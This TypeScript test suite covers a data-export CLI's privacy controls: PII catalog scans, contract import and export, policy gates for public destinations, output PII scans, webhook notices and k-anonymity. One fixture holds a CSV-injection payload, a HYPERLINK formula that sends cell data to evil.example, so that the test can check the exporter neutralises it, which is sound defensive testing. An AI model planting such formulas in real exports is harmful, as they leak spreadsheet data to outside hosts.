// The catalog on a real home over the demo CRM: scans that never show a raw value, ODCS contracts in
// and out, and definitions refused while they read unclassified personal data (fail closed).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parseContract } from '@waybill/core';
import { cli, requestApproveRun, tempHome } from './cli-harness.js';

let t: Awaited<ReturnType<typeof tempHome>>;
let crm: string;

before(async () => {
  t = await tempHome();
  // The demo seeds the CRM and classifies it; this test then works on a second source over the same
  // file, which nobody has classified.
  const r = await cli(['--home', t.home, 'demo', '--json']);
  assert.equal(r.code, 0, r.stderr);
  crm = (JSON.parse(r.stdout) as { sourceDatabase: string }).sourceDatabase;
  assert.equal(
    (await cli(['--home', t.home, 'source', 'add', 'crm2', '--kind', 'sqlite', '--path', crm])).code,
    0,
  );
});
after(async () => t.cleanup());

test('catalog scan finds each kind of personal data and never prints a raw sampled value', async () => {
  const r = await cli([
    '--home',
    t.home,
    'catalog',
    'scan',
    'crm2',
    '--table',
    'customers',
    '--sample',
    '300',
    '--json',
  ]);
  assert.equal(r.code, 0, r.stderr);
  const { scans } = JSON.parse(r.stdout) as {
    scans: {
      columns: {
        column: string;
        likelyPii: boolean;
        proposed: { sensitivity: string; piiKind: string | null };
      }[];
    }[];
  };
  const byColumn = Object.fromEntries(scans[0]!.columns.map((c) => [c.column, c]));
  assert.deepEqual(Object.fromEntries(Object.entries(byColumn).map(([k, c]) => [k, c.proposed.piiKind])), {
    id: null,
    name: 'name',
    email: 'email',
    phone: 'phone',
    ssn: 'national_id',
    birth_date: 'birth_date',
    country: null,
    lifetime_value: null,
    notes: 'free_text',
    updated_at: null,
  });
  assert.equal(byColumn['ssn']!.proposed.sensitivity, 'restricted');
  // No sampled value appears in the output, in JSON or as a table.
  const db = new Database(crm, { readonly: true });
  const rows = db
    .prepare('SELECT name, email, phone, ssn, birth_date FROM customers LIMIT 300')
    .all() as Record<string, string>[];
  db.close();
  const text = (
    await cli(['--home', t.home, 'catalog', 'scan', 'crm2', '--table', 'customers', '--sample', '300'])
  ).stdout;
  for (const row of rows) {
    for (const v of Object.values(row)) {
      if (v === null) continue;
      assert.ok(!r.stdout.includes(v), `the JSON shows a raw value (${v.length} chars)`);
      assert.ok(!text.includes(v), `the table shows a raw value (${v.length} chars)`);
    }
  }
});

test('a definition reading unclassified personal data is refused, naming the columns and how to classify them', async () => {
  const file = join(t.dir, 'leaky.yaml');
  await writeFile(
    file,
    `apiVersion: waybill/v1
kind: ExportDefinition
name: leaky
owner: team:x
purposes: [support]
source: { connection: crm2, table: customers }
fields:
  - { name: id, from: id, classification: internal }
  - { name: notes, from: notes, transform: redact }
  - { name: ssn_last4, from: ssn, transform: { type: mask_partial, keep: last, n: 4 } }
destination: { connection: demo-exports, path: '{name}/{runId}' }
format: ndjson
retention: P7D
`,
  );
  const r = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(r.code, 1);
  assert.match(
    r.stderr,
    /ERR_WAYBILL_DEFINITION_INVALID: .*leaky\.yaml: these columns of crm2\/customers look like personal data and nobody classified them: notes \(free text with (email, phone|phone, email)\), ssn \(national id\)/,
  );
  assert.match(r.stderr, /waybill catalog scan crm2 --table customers --propose/);

  // Classify the table from the scan's proposal (as a person would after reviewing it): accepted.
  const proposed = await cli([
    '--home',
    t.home,
    'catalog',
    'scan',
    'crm2',
    '--table',
    'customers',
    '--propose',
  ]);
  assert.equal(proposed.code, 0, proposed.stderr);
  const contract = join(t.dir, 'crm2.contract.yaml');
  await writeFile(contract, proposed.stdout);
  assert.equal((await cli(['--home', t.home, 'catalog', 'apply', contract])).code, 0);
  const ok = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(ok.code, 0, ok.stderr);
});

test('catalog export and apply round-trip through ODCS v3; a bad contract names the path', async () => {
  const exported = await cli(['--home', t.home, 'catalog', 'export', 'demo-crm']);
  assert.equal(exported.code, 0, exported.stderr);
  assert.match(exported.stdout, /^apiVersion: v3\.1\.0\nkind: DataContract/);
  const tables = parseContract(exported.stdout);
  const customers = tables.find((x) => x.table === 'customers')!;
  assert.deepEqual(customers.fields['ssn'], {
    sensitivity: 'restricted',
    piiKind: 'national_id',
    retention: 'P7Y',
    regulations: ['ccpa'],
    purposes: ['tax-reporting'],
  });
  const file = join(t.dir, 'roundtrip.yaml');
  await writeFile(file, exported.stdout);
  const again = await cli(['--home', t.home, 'catalog', 'apply', file, '--json']);
  assert.equal(again.code, 0, again.stderr);
  assert.ok((JSON.parse(again.stdout) as { tables: { changed: boolean }[] }).tables.every((x) => !x.changed));

  const bad = join(t.dir, 'bad.yaml');
  await writeFile(
    bad,
    (await readFile(file, 'utf8')).replace('classification: restricted', 'classification: secret'),
  );
  const refused = await cli(['--home', t.home, 'catalog', 'apply', bad]);
  assert.equal(refused.code, 1);
  assert.match(
    refused.stderr,
    /bad\.yaml: schema\[0\]\.properties\[4\]\.classification: one of public, internal, confidential, restricted/,
  );
  const history = await cli(['--home', t.home, 'catalog', 'history', 'demo-crm', 'customers', '--json']);
  assert.equal((JSON.parse(history.stdout) as { versions: unknown[] }).versions.length, 1);
});

test('restricted-field-sent-unmasked-to-a-public-destination-is-refused, at apply and at run time', async () => {
  const out = join(t.dir, 'public-out');
  await (await import('node:fs/promises')).mkdir(out);
  const add = (trust: string) =>
    cli([
      '--home',
      t.home,
      'destination',
      'add',
      'open-data',
      '--kind',
      'directory',
      '--path',
      out,
      '--trust',
      trust,
    ]);
  assert.equal((await add('public')).code, 0);
  const file = join(t.dir, 'open.yaml');
  const def = (ssn: string, email: string) => `apiVersion: waybill/v1
kind: ExportDefinition
name: open-data
owner: team:x
purposes: [research]
source: { connection: demo-crm, table: customers }
fields:
  - { name: id, from: id, transform: { type: hash_keyed, key: demo-pseudonyms } }
  - { name: ssn, from: ssn${ssn} }
  - { name: email, from: email${email} }
destination: { connection: open-data, path: '{name}/{runId}' }
format: csv
retention: P7D
`;
  await writeFile(file, def('', ', transform: mask_email'));
  const r = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /destination "open-data" is trusted as public/);
  assert.match(
    r.stderr,
    /fields\.ssn \(restricted national_id, transform keep: any\) — rule restricted → public needs dropped/,
  );
  assert.match(
    r.stderr,
    /fields\.email \(confidential email, transform mask_email: masked\) — rule confidential → public needs pseudonymized/,
  );

  // Dropped and pseudonymized: accepted for the public.
  await writeFile(file, def(', transform: drop', ', transform: { type: hash_keyed, key: demo-pseudonyms }'));
  assert.equal((await cli(['--home', t.home, 'def', 'apply', file])).code, 0);

  // An internal destination takes the SSN masked; made public afterwards, the run is refused.
  assert.equal((await add('internal')).code, 0);
  await writeFile(
    file,
    def(', transform: { type: mask_partial, keep: last, n: 4 }', ', transform: mask_email'),
  );
  const applied = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(applied.code, 0, applied.stderr);
  assert.equal((await add('public')).code, 0);
  // The catalog says email is confidential: the policy wants an approval first (the catalog counts).
  const run = await requestApproveRun(t.home, 'open-data', 'research');
  assert.equal(run.code, 1);
  assert.match(run.stderr, /ERR_WAYBILL_POLICY_DENIED: .*protection rules refuse/);
  const { readdir } = await import('node:fs/promises');
  assert.deepEqual(await readdir(out), [], 'nothing reached the public destination');
});

/** A definition over the demo customers' notes, with the given notes field and extra keys. */
async function notesDefinition(name: string, notes: string, extra = ''): Promise<string> {
  const file = join(t.dir, `${name}.yaml`);
  await writeFile(
    file,
    `apiVersion: waybill/v1
kind: ExportDefinition
name: ${name}
owner: team:support
purposes: [support]
source: { connection: demo-crm, table: customers }
fields:
  - { name: id, from: id }
  - { name: notes, from: notes${notes} }
destination: { connection: demo-exports, path: '{name}/{runId}' }
format: csv
retention: P30D
${extra}`,
  );
  const r = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(r.code, 0, r.stderr);
  return name;
}

test('pii-hidden-in-a-notes-field: scan_and_apply masks it; a mask that lets it through fails the output PII scan', async () => {
  const ok = await requestApproveRun(
    t.home,
    await notesDefinition('notes-clean', ', transform: scan_and_apply'),
    'support',
    '--json',
  );
  assert.equal(ok.code, 0, ok.stderr);
  const dir = (JSON.parse(ok.stdout) as { location: string }).location;
  const csv = await readFile(join(dir, 'notes-clean.csv'), 'utf8');
  assert.match(csv, /\[EMAIL\]|\[PHONE\]/);
  assert.ok(!/@[a-z]+\.[a-z]{2,}/.test(csv), 'no email left in the output');
  const verify = await cli(['--home', t.home, 'verify', dir, '--json']);
  assert.equal(verify.code, 0);
  const env = JSON.parse(
    Buffer.from(
      (
        JSON.parse((await readFile(join(dir, 'waybill.intoto.jsonl'), 'utf8')).split('\n')[0]!) as {
          payload: string;
        }
      ).payload,
      'base64',
    ).toString(),
  ) as { predicate: { validation: { gate: string; passed: boolean; detail: string }[] } };
  const gate = env.predicate.validation.find((g) => g.gate === 'output-pii-scan')!;
  assert.equal(gate.passed, true);
  assert.match(gate.detail, /values of id, notes scanned/);

  // The owners hear of a stopped run: a real webhook receiver, and the home's notification log.
  const received: { headers: Record<string, string | string[] | undefined>; body: string }[] = [];
  const hook = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push({ headers: req.headers, body });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
  process.env['WAYBILL_TEST_HOOK_SECRET'] = 'hook-secret-for-tests';
  const port = (hook.address() as AddressInfo).port;
  const set = await cli([
    '--home',
    t.home,
    'notify',
    'webhook',
    `http://127.0.0.1:${port}/hook`,
    '--secret-env',
    'WAYBILL_TEST_HOOK_SECRET',
  ]);
  assert.equal(set.code, 0, set.stderr);

  // Keeping the last 45 characters of each note leaves the email or phone at its end: the scan catches
  // it, naming field and row only.
  const leaky = await requestApproveRun(
    t.home,
    await notesDefinition('notes-leaky', ', transform: { type: mask_partial, keep: last, n: 45 }'),
    'support',
  );
  assert.equal(leaky.code, 1);
  assert.match(
    leaky.stderr,
    /ERR_WAYBILL_VALIDATION_FAILED: validation gate output-pii-scan: output field "notes" at source row \d+ holds (email|phone)/,
  );
  assert.ok(!/@/.test(leaky.stderr), 'the message shows no value');
  const { readdir } = await import('node:fs/promises');
  const exports = await readdir(join(t.home, 'demo', 'exports'));
  assert.ok(!exports.includes('notes-leaky'), 'nothing was delivered');

  hook.close();
  assert.equal(received.length, 1);
  const { notification } = JSON.parse(received[0]!.body) as {
    notification: { type: string; code: string; definition: string; owner: string; runId: string };
  };
  assert.equal(notification.type, 'run.failed');
  assert.equal(notification.code, 'ERR_WAYBILL_VALIDATION_FAILED');
  assert.equal(notification.definition, 'notes-leaky');
  assert.equal(notification.owner, 'team:support');
  assert.equal(received[0]!.headers['idempotency-key'], notification.runId);
  const expected = `sha256=${createHmac('sha256', 'hook-secret-for-tests').update(received[0]!.body).digest('hex')}`;
  assert.equal(received[0]!.headers['x-waybill-signature'], expected);
  assert.ok(!received[0]!.body.includes('@'), 'no value of the data in the notice');
  const logged = await readFile(join(t.home, 'notifications.log'), 'utf8');
  assert.match(logged, /"runId":"[0-9a-f-]{36}"/);
  const notified = await cli(['--home', t.home, 'audit', 'search', '--type', 'run.notified', '--json']);
  const entries = (
    JSON.parse(notified.stdout) as {
      entries: { event: { details: { channel: string; delivered: boolean } } }[];
    }
  ).entries;
  assert.deepEqual(
    entries.map((e) => [e.event.details.channel.split(' ')[0], e.event.details.delivered]).sort(),
    [
      ['log', true],
      ['webhook', true],
    ],
  );
  assert.equal((await cli(['--home', t.home, 'notify', 'off'])).code, 0);
});

test('the retention and volume gates: an export kept longer than its shortest-lived field, or too big, fails', async () => {
  const long = await requestApproveRun(
    t.home,
    await notesDefinition('notes-long', ', transform: scan_and_apply').then(async (n) => {
      // The catalog keeps notes one year; this export wants two.
      const file = join(t.dir, `${n}.yaml`);
      await writeFile(file, (await readFile(file, 'utf8')).replace('retention: P30D', 'retention: P2Y'));
      assert.equal((await cli(['--home', t.home, 'def', 'apply', file])).code, 0);
      return n;
    }),
    'support',
  );
  assert.equal(long.code, 1);
  assert.match(
    long.stderr,
    /validation gate retention: export retention P2Y; the shortest retention of a field it reads is P1Y \(notes\)/,
  );
  const big = await requestApproveRun(
    t.home,
    await notesDefinition('notes-big', ', transform: scan_and_apply', 'limits: { maxRows: 10 }\n'),
    'support',
  );
  assert.equal(big.code, 1);
  assert.match(big.stderr, /validation gate volume-limits: \d+ rows \(limit 10\)/);
});

test('csv-injection-payload-in-a-source-value-is-neutralized in the delivered CSV', async () => {
  const src = join(t.dir, 'tickets.csv');
  await writeFile(
    src,
    'id,subject\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n2,@SUM(A1:A9)\n3,refund -12.5\n4,-12.5\n',
  );
  assert.equal(
    (await cli(['--home', t.home, 'source', 'add', 'tickets', '--kind', 'csv', '--path', src])).code,
    0,
  );
  const file = join(t.dir, 'tickets.yaml');
  await writeFile(
    file,
    `apiVersion: waybill/v1
kind: ExportDefinition
name: tickets
owner: team:support
purposes: [support]
source: { connection: tickets, table: tickets }
fields:
  - { name: id, from: id, classification: internal }
  - { name: subject, from: subject, classification: internal }
destination: { connection: demo-exports, path: '{name}/{runId}' }
format: csv
retention: P7D
`,
  );
  assert.equal((await cli(['--home', t.home, 'def', 'apply', file])).code, 0);
  const r = await cli(['--home', t.home, 'export', 'run', 'tickets', '--purpose', 'support', '--json']);
  assert.equal(r.code, 0, r.stderr);
  const csv = await readFile(
    join((JSON.parse(r.stdout) as { location: string }).location, 'tickets.csv'),
    'utf8',
  );
  assert.equal(
    csv,
    'id,subject\r\n1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n2,\'@SUM(A1:A9)\r\n3,refund -12.5\r\n4,-12.5\r\n',
  );
});

test('date_shift runs in the pipeline with the record id as subject', async () => {
  const file = join(t.dir, 'shifted.yaml');
  await writeFile(
    file,
    `apiVersion: waybill/v1
kind: ExportDefinition
name: shifted
owner: team:research
purposes: [research]
source: { connection: demo-crm, table: customers }
fields:
  - { name: id, from: id }
  - { name: born, from: birth_date, transform: { type: date_shift, days: 30, key: demo-pseudonyms } }
destination: { connection: demo-exports, path: '{name}/{runId}' }
format: ndjson
retention: P7D
`,
  );
  const applied = await cli(['--home', t.home, 'def', 'apply', file]);
  assert.equal(applied.code, 0, applied.stderr);
  const r = await requestApproveRun(t.home, 'shifted', 'research', '--json');
  assert.equal(r.code, 0, r.stderr);
  const lines = (
    await readFile(join((JSON.parse(r.stdout) as { location: string }).location, 'shifted.ndjson'), 'utf8')
  )
    .trim()
    .split('\n');
  const db = new Database(crm, { readonly: true });
  const born = new Map(
    (db.prepare('SELECT id, birth_date FROM customers').all() as { id: number; birth_date: string }[]).map(
      (x) => [x.id, x.birth_date],
    ),
  );
  db.close();
  let moved = 0;
  for (const line of lines.slice(0, 200)) {
    const o = JSON.parse(line) as { id: number; born: string };
    const days = (Date.parse(o.born) - Date.parse(born.get(o.id)!)) / 86_400_000;
    assert.ok(Math.abs(days) <= 30, `${days}`);
    if (days !== 0) moved++;
  }
  assert.ok(moved > 150);
});

test('k-anonymity over declared quasi-identifiers: too fine a combination blocks the export, a coarser one passes', async () => {
  const def = (name: string, born: string, k: number) => `apiVersion: waybill/v1
kind: ExportDefinition
name: ${name}
owner: team:research
purposes: [research]
source: { connection: demo-crm, table: customers }
fields:
  - { name: born, from: birth_date, transform: ${born} }
  - { name: country, from: country }
  - { name: value, from: lifetime_value, transform: { type: bucket, boundaries: [1000, 10000] } }
privacy: { quasiIdentifiers: [born, country], k: ${k} }
destination: { connection: demo-exports, path: '{name}/{runId}' }
format: csv
retention: P7D
`;
  const apply = async (name: string, text: string) => {
    const file = join(t.dir, `${name}.yaml`);
    await writeFile(file, text);
    const r = await cli(['--home', t.home, 'def', 'apply', file]);
    assert.equal(r.code, 0, r.stderr);
  };
  // Birth dates to the day, by country: most people are alone in their class.
  await apply('k-fine', def('k-fine', '{ type: date_truncate, unit: day }', 5));
  const fine = await requestApproveRun(t.home, 'k-fine', 'research');
  assert.equal(fine.code, 1);
  assert.match(
    fine.stderr,
    /validation gate k-anonymity: \d+ records are in combinations of born, country shared by fewer than 5 records \(the smallest by 1\)/,
  );
  // Birth years, the country replaced: every class is large.
  await apply(
    'k-coarse',
    def('k-coarse', '{ type: date_truncate, unit: year }', 2).replace(
      'country, from: country }',
      'country, from: country, transform: { type: replace, value: "world" } }',
    ),
  );
  const coarse = await requestApproveRun(t.home, 'k-coarse', 'research');
  assert.equal(coarse.code, 0, coarse.stderr);
  // A quasi-identifier that is not an output field is a definition error, naming the path.
  const bad = join(t.dir, 'k-bad.yaml');
  await writeFile(bad, def('k-bad', 'drop', 2));
  const refused = await cli(['--home', t.home, 'def', 'apply', bad]);
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, /privacy\.quasiIdentifiers\[0\]: "born" is not an output field/);
});
